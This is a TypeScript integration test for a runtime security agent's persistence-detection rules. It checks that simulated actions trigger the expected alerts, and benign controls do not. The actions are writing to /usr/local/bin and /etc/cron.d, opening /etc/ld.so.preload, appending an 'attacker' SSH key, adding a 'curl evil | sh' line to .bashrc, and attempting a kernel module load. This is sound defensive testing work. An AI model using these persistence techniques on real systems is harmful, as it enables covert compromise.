/**
 * Live: the persistence rules (rules/20-persistence.yaml). Files touched below
 * /usr/local/bin, /etc/cron.d and /etc are uniquely named and removed at once
 * (a name with a dot is one cron ignores).
 */
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEFAULT_RULES_DIR } from "../../src/version.js";
import { exec, LiveAgent, rulesLiveSkipReason } from "./rules-live-agent.js";

const skipReason = rulesLiveSkipReason();
if (skipReason) console.warn(`test/integration/rules-persistence.test.ts skipped: ${skipReason}`);

function removeIfThere(path: string): void {
  if (existsSync(path)) unlinkSync(path);
}

describe.skipIf(skipReason !== undefined)("default rules: persistence (live)", () => {
  let agent: LiveAgent;
  let work: string;
  let home: string;

  beforeAll(async () => {
    work = mkdtempSync(join(tmpdir(), "pg-rules-persist-"));
    home = join(work, "home");
    mkdirSync(join(home, ".ssh"), { recursive: true });
    // A user's local file allows one known writer through the rule's exception, as Falco's do.
    const local = join(work, "local-rules.yaml");
    writeFileSync(
      local,
      [
        "- rule: Write below system binary directory",
        "  exceptions:",
        "    - name: known_writers",
        "      values: [[tee, /usr/local/bin]]",
        "  override:",
        "    exceptions: append",
        "",
      ].join("\n"),
    );
    agent = await LiveAgent.start([DEFAULT_RULES_DIR, local]);
  });

  afterAll(async () => {
    await agent?.stop();
    rmSync(work, { recursive: true, force: true });
  });

  it("Write below system binary directory: a file dropped in /usr/local/bin, not one in a temp dir or by an excepted writer", async () => {
    const rule = "Write below system binary directory";
    const target = `/usr/local/bin/peregrine-rules-test-${process.pid}`;
    const benign = await exec("/bin/sh", ["-c", `echo x > ${join(work, "tool")}`]);
    try {
      const attack = await exec("/bin/sh", ["-c", `echo x > ${target}`]);
      const d = await agent.waitForRule(rule, attack.pid);
      expect(d).toMatchObject({
        priority: "Error",
        tags: expect.arrayContaining(["T1543", "mitre_persistence"]),
        output_fields: { "fd.name": target, "proc.name": "sh" },
      });
    } finally {
      removeIfThere(target);
    }
    // The same write by tee, which the local exception allows below /usr/local/bin.
    const allowedTarget = `${target}-tee`;
    let allowed: Awaited<ReturnType<typeof exec>>;
    try {
      allowed = await exec("/bin/sh", ["-c", `echo x | tee ${allowedTarget} > /dev/null`]);
    } finally {
      removeIfThere(allowedTarget);
    }
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
    expect(agent.detections.filter((d) => d.rule === rule && d.output_fields["proc.name"] === "tee")).toEqual(
      [],
    );
    expect(allowed.code).toBe(0);
  });

  it("Scheduled task or service unit written: a cron.d entry and a user unit, not a read of crontab", async () => {
    const rule = "Scheduled task or service unit written";
    const cronFile = `/etc/cron.d/peregrine-rules-test.${process.pid}`;
    const benignRead = await exec("/bin/cat", ["/etc/crontab"]);
    const benignWrite = await exec("/bin/sh", ["-c", `echo x > ${join(work, "cron.d-job")}`]);
    try {
      const cron = await exec("/bin/sh", ["-c", `echo '# test' > ${cronFile}`]);
      const d = await agent.waitForRule(rule, cron.pid);
      expect(d).toMatchObject({
        priority: "Warning",
        tags: expect.arrayContaining(["T1053.003"]),
        output_fields: { "fd.name": cronFile, "proc.name": "sh" },
      });
    } finally {
      removeIfThere(cronFile);
    }
    await agent.settle();
    expect(agent.of(benignRead.pid, rule)).toEqual([]);
    expect(agent.of(benignWrite.pid, rule)).toEqual([]);
  });

  it("Dynamic linker preload file written: /etc/ld.so.preload opened for append, not a file of that name elsewhere", async () => {
    const rule = "Dynamic linker preload file written";
    const preload = "/etc/ld.so.preload";
    const existed = existsSync(preload);
    const benign = await exec("/usr/bin/perl", [
      "-e",
      `open(my $f, ">>", "${join(work, "ld.so.preload")}") or die`,
    ]);
    try {
      // Opened for append and closed without writing: an existing file is unchanged.
      const attack = await exec("/usr/bin/perl", ["-e", `open(my $f, ">>", "${preload}") or die "$!"`]);
      expect(attack.code).toBe(0);
      const d = await agent.waitForRule(rule, attack.pid);
      expect(d).toMatchObject({
        priority: "Critical",
        tags: expect.arrayContaining(["T1574.006"]),
        output_fields: { "fd.name": preload, "proc.name": "perl" },
      });
    } finally {
      if (!existed) removeIfThere(preload);
    }
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });

  it("SSH authorized keys modified: a key appended, not a write to known_hosts", async () => {
    const rule = "SSH authorized keys modified";
    const keys = join(home, ".ssh", "authorized_keys");
    const benign = await exec("/bin/sh", ["-c", `echo host >> ${join(home, ".ssh", "known_hosts")}`]);
    const attack = await exec("/bin/sh", ["-c", `echo 'ssh-ed25519 AAAA attacker' >> ${keys}`]);
    const d = await agent.waitForRule(rule, attack.pid);
    expect(d).toMatchObject({
      priority: "Warning",
      tags: expect.arrayContaining(["T1098.004"]),
      output_fields: {
        "fd.name": keys,
        "proc.name": "sh",
        "evt.arg.flags": expect.stringContaining("O_APPEND"),
      },
    });
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });

  it("Shell startup file modified: a line appended to .bashrc, not to a backup of it", async () => {
    const rule = "Shell startup file modified";
    const rc = join(home, ".bashrc");
    const benign = await exec("/bin/sh", ["-c", `echo x >> ${rc}.bak`]);
    const attack = await exec("/bin/sh", ["-c", `echo 'curl evil | sh' >> ${rc}`]);
    const d = await agent.waitForRule(rule, attack.pid);
    expect(d).toMatchObject({
      priority: "Notice",
      tags: expect.arrayContaining(["T1546.004"]),
      output_fields: { "fd.name": rc },
    });
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });

  it("Kernel module load by unexpected program: finit_module from 'insmod', not from 'modprobe'", async () => {
    const rule = "Kernel module load by unexpected program";
    // The kernel names a process after the file it executed: links to perl called insmod and modprobe.
    const insmod = join(work, "insmod");
    const modprobe = join(work, "modprobe");
    symlinkSync("/usr/bin/perl", insmod);
    symlinkSync("/usr/bin/perl", modprobe);
    // finit_module(fd, "", 0) on a file that is not a module: refused, but attempted.
    const script = 'open(my $f, "<", "/etc/hostname") or die; my $p = ""; syscall(313, fileno($f), $p, 0);';
    const benign = await exec(modprobe, ["-e", script]);
    const attack = await exec(insmod, ["-e", script]);
    const d = await agent.waitForRule(rule, attack.pid);
    expect(d).toMatchObject({
      priority: "Warning",
      tags: expect.arrayContaining(["T1547.006"]),
      output_fields: { "evt.type": "finit_module", "proc.name": "insmod" },
    });
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });
});
